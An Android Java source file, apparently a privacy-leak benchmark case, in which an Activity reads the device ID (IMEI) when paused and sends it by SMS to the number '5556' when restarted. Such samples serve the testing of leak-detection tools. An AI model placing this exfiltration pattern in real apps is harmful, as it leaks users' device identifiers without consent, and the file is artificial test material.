package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Read when the screen is paused, sent when it comes back. */
public class Restarted extends Case {
    String f = "";
    @Override protected void onPause() { super.onPause(); f = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(); }
    @Override protected void onRestart() { super.onRestart(); SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); }
}
